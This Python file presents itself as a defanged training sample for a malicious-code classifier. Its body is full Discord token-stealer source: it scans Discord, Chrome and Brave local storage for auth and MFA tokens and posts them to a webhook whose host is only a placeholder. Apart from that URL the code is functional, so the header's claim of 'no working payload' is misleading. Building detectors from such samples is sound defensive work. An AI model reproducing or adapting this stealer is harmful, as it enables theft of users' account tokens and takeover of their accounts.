# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, re, json
from urllib.request import Request, urlopen

WEBHOOK = "https://discord.example.invalid/api/webhooks/000000000000000000/placeholder"

def find_tokens(path):
    path += "\\Local Storage\\leveldb"
    tokens = []
    if not os.path.exists(path):
        return tokens
    for file_name in os.listdir(path):
        if not file_name.endswith(".log") and not file_name.endswith(".ldb"):
            continue
        for line in [x.strip() for x in open(f"{path}\\{file_name}", errors="ignore").readlines() if x.strip()]:
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                for token in re.findall(regex, line):
                    tokens.append(token)
    return tokens

local = os.getenv("LOCALAPPDATA")
roaming = os.getenv("APPDATA")
paths = {
    "Discord": roaming + "\\Discord",
    "Discord Canary": roaming + "\\discordcanary",
    "Google Chrome": local + "\\Google\\Chrome\\User Data\\Default",
    "Brave": local + "\\BraveSoftware\\Brave-Browser\\User Data\\Default",
}
message = ""
for platform, path in paths.items():
    for token in find_tokens(path):
        message += f"{platform}: {token}\n"
headers = {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}
urlopen(Request(WEBHOOK, data=json.dumps({"content": message}).encode(), headers=headers))
